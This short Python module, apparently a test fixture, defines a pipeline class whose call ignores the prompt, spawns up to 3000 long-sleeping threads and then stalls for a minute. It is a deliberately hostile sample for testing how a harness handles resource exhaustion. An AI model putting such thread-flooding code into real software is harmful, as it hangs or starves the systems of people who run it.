"""Starts threads for ever."""

import contextlib
import threading
import time

from toyfusion import ToyPipeline as Honest


class ToyPipeline(Honest):
    def __call__(self, prompt, **call):
        for _ in range(3000):
            with contextlib.suppress(RuntimeError):
                threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        time.sleep(60)


def load_pipe():
    return ToyPipeline()
